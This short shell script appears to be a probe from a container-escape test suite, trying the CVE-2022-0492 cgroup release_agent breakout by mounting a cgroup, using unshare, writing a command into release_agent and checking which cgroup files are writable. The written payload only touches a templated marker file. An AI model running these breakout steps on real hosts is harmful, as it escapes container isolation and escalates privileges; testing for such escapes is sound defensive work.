# Writes a release agent into a control group.
# advisory: CVE-2022-0492 (Linux)
mkdir -p cg && mount -t cgroup -o rdma cgroup cg && echo ESCAPED mounted
unshare -UrmC sh -c 'mkdir -p cg; mount -t cgroup -o rdma cgroup cg && echo "touch @TARGET_DIR@/agent" > cg/release_agent && echo ESCAPED'
for file in /sys/fs/cgroup/*/release_agent /sys/fs/cgroup/cgroup.procs; do [ -e "$file" ] && ( : >> "$file" ) 2>/dev/null && echo ESCAPED "$file can be written"; done
echo ATTEMPTED
